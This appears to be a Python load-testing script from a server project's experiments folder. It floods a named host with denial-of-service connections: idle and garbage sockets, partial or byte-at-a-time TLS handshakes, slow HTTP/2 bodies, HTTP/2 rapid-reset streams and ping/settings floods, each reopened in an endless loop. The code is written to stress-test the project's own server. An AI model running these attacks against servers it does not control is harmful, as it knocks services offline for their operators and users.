"""Hostile connections, one coroutine for each kind.

    python -m experiments.hostile_load.attackers KIND CONNECTIONS HOST:PORT [CRT KEY]

Every connection that is closed is opened again, until standard input closes.
"""

import asyncio
import contextlib
import functools
import random
import ssl
import sys
from asyncio import StreamReader, StreamWriter
from collections.abc import Awaitable, Callable, Mapping
from pathlib import Path

from erosion_common.support.process import end_with_stdin, raise_limit
from experiments.hostile_load import http2

Act = Callable[[StreamReader, StreamWriter], Awaitable[None]]
FOR_EVER = 3600.0
PAUSE_SECONDS = 1.0  # before a connection that was closed is opened again


async def idle(reader: StreamReader, writer: StreamWriter) -> None:
    """Connects and says nothing."""
    del writer
    await reader.read()


async def garbage(reader: StreamReader, writer: StreamWriter) -> None:
    """Says what is no TLS."""
    writer.write(random.randbytes(1000))
    await reader.read()


async def half_a_hello(reader: StreamReader, writer: StreamWriter) -> None:
    """Begins a TLS handshake and leaves it."""
    writer.write(_client_hello()[:100])
    await reader.read()


async def slow_hello(reader: StreamReader, writer: StreamWriter) -> None:
    """Begins a TLS handshake, a byte a second."""
    for byte in _client_hello():
        writer.write(bytes((byte,)))
        await writer.drain()
        await asyncio.sleep(1)
        if reader.at_eof():
            return


async def hello(reader: StreamReader, writer: StreamWriter) -> None:
    """Begins a TLS handshake, lets the server answer, and leaves it."""
    writer.write(_client_hello())
    await reader.read()


async def no_certificate(reader: StreamReader, writer: StreamWriter) -> None:
    """Ends the handshake as far as it can be ended without a certificate."""
    await writer.start_tls(_context())
    await reader.read()


async def headers_only(reader: StreamReader, writer: StreamWriter) -> None:
    """An enrolled site: calls without a body."""
    await writer.start_tls(_context(with_certificate=True))
    writer.write(http2.opening() + b"".join(http2.call(stream) for stream in (1, 3, 5, 7)))
    await reader.read()


async def slow_body(reader: StreamReader, writer: StreamWriter) -> None:
    """An enrolled site: calls with a first message that comes at a byte a second."""
    await writer.start_tls(_context(with_certificate=True))
    writer.write(http2.opening() + http2.call(1) + http2.data(1, http2.message_head(4_000_000)))
    while not reader.at_eof():
        writer.write(http2.data(1, b"x"))
        await writer.drain()
        await asyncio.sleep(1)


async def rapid_resets(reader: StreamReader, writer: StreamWriter) -> None:
    """An enrolled site: calls that are taken back at once, a hundred at a time."""
    await writer.start_tls(_context(with_certificate=True))
    writer.write(http2.opening())
    stream = 1
    while not reader.at_eof():
        streams = range(stream, stream + 200, 2)
        writer.write(b"".join(http2.call(s) + http2.reset(s) for s in streams))
        stream += 200
        await writer.drain()
        await asyncio.sleep(0.1)


async def pings(reader: StreamReader, writer: StreamWriter) -> None:
    """An enrolled site: pings and settings, a hundred at a time."""
    await writer.start_tls(_context(with_certificate=True))
    writer.write(http2.opening())
    while not reader.at_eof():
        writer.write((http2.ping() + http2.settings()) * 100)
        await writer.drain()
        await asyncio.sleep(0.1)


BY_STRANGERS: Mapping[str, Act] = {
    "idle": idle,
    "garbage": garbage,
    "half-hello": half_a_hello,
    "slow-hello": slow_hello,
    "hello": hello,
    "no-certificate": no_certificate,
}
BY_A_SITE: Mapping[str, Act] = {
    "headers-only": headers_only,
    "slow-body": slow_body,
    "rapid-resets": rapid_resets,
    "pings": pings,
}

_certificate: tuple[Path, Path] | None = None


@functools.cache  # making them would cost more than the attack
def _context(*, with_certificate: bool = False) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if with_certificate and _certificate is not None:
        context.load_cert_chain(*_certificate)
    return context


@functools.cache
def _client_hello() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = _context().wrap_bio(incoming, outgoing, server_hostname="erosion")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


async def _attack(act: Act, host: str, port: int) -> None:
    await asyncio.sleep(random.random())
    while True:
        writer: StreamWriter | None = None
        try:
            reader, writer = await asyncio.open_connection(host, port)
            await asyncio.wait_for(act(reader, writer), FOR_EVER)
        except (OSError, ssl.SSLError, TimeoutError):
            pass
        finally:
            if writer is not None:
                writer.transport.abort()
        await asyncio.sleep(PAUSE_SECONDS)


async def _main(kind: str, connections: int, address: str) -> None:
    host, _, port = address.rpartition(":")
    act = {**BY_STRANGERS, **BY_A_SITE}[kind]
    await asyncio.gather(*(_attack(act, host, int(port)) for _ in range(connections)))


def main() -> None:
    """Attack until stopped."""
    global _certificate
    kind, connections, address, *files = sys.argv[1:]
    if files:
        _certificate = Path(files[0]), Path(files[1])
    raise_limit()
    end_with_stdin()
    asyncio.run(_main(kind, int(connections), address))


if __name__ == "__main__":
    main()
